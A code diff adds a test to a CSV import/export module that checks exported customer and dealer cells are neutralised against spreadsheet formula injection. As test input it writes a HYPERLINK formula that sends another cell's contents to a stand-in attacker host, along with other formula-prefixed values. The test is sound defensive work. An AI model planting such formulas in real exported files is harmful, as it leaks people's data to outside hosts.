@@ -236,6 +236,39 @@ for (const engine of testEngines()) {
       )
     })
 
+    test('no exported cell runs as a formula in a spreadsheet, and the export still re-imports unchanged', async () => {
+      const typed = path.join(database.dataDir, 'formula-customers.csv')
+      fs.writeFileSync(
+        typed,
+        [
+          'email,name,phone,locale,street,city,country',
+          'formula.name@example.com,"=HYPERLINK(""http://evil.example/?leak=""&A2,""Anna"")",+1 555 0100,en,@SUM(A1),-Bonn,DE',
+        ].join('\n'),
+      )
+      assert.equal((await importCustomers(ctx, { file: typed })).imported, 1)
+      const dealers = path.join(database.dataDir, 'formula-dealers.csv')
+      fs.writeFileSync(dealers, 'name,kind,country,email\n=1+1 Optics,dealer,DE,formula.dealer@example.com\n')
+      assert.equal((await importDealers(ctx, { file: dealers })).imported, 1)
+
+      const customers = parse(await exportToString(ctx, 'customers'), { columns: true }) as Record<
+        string,
+        string
+      >[]
+      const row = customers.find((c) => c.email === 'formula.name@example.com')
+      assert.deepEqual(
+        [row?.name, row?.phone, row?.street, row?.city],
+        [`'=HYPERLINK("http://evil.example/?leak="&A2,"Anna")`, "'+1 555 0100", "'@SUM(A1)", "'-Bonn"],
+      )
+      const dealerRows = parse(await exportToString(ctx, 'dealers'), { columns: true }) as Record<
+        string,
+        string
+      >[]
+      assert.equal(dealerRows.find((d) => d.email === 'formula.dealer@example.com')?.name, "'=1+1 Optics")
+      for (const rows of [customers, dealerRows])
+        for (const cells of rows)
+          for (const cell of Object.values(cells)) assert.doesNotMatch(cell, /^[=+\-@\t\r]/)
+    })
+
     test('exports re-import cleanly: units, customers and dealers', async () => {
       for (const kind of ['units', 'customers', 'dealers'] as const) {
         const file = path.join(database.dataDir, `export-${kind}.csv`)
